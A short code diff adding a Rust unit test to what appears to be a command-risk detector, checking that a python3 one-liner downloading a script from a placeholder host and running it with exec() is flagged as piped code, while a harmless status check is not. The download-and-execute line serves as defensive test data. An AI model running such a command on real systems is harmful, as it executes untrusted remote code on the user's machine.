@@ -235,3 +235,15 @@ fn interpreter_writes_to_block_devices_are_disk_writes() {
     )
     .contains(&"shell.dynamic_command".to_string()));
 }
+
+#[test]
+fn downloaded_code_run_in_process_is_piped_code() {
+    let n = names(
+        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/p.py').read())\"",
+    );
+    assert!(n.contains(&"shell.pipe_to_shell".to_string()), "{n:?}");
+    let n = names(
+        "python3 -c \"import urllib.request as u; print(u.urlopen('https://x.example').status)\"",
+    );
+    assert!(!n.contains(&"shell.pipe_to_shell".to_string()), "{n:?}");
+}
